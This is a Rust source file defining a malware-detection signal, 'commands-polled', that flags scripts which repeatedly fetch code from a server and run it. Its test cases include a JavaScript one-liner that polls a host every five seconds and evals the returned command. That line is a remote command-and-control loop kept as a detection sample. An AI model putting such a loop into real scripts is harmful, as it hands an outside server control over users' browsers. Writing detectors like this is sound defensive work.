//! `commands-polled`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "commands-polled",
    description: "The script asks a server for code repeatedly and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::Repeat]),
        one(&[Atom::RemoteRun]),
        one(&[Atom::Eval, Atom::FunctionOfText]),
        one(&[Atom::Request, Atom::Socket]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "function pull(){fetch(c+'/next').then(r=>r.json()).then(j=>{eval(j.command)})}setInterval(pull,5000)",
        ],
        without: &[
            "function poll(){fetch('/news').then(r=>r.json()).then(j=>{badge.textContent=j.count})}setInterval(poll,5000)",
        ],
    },
};
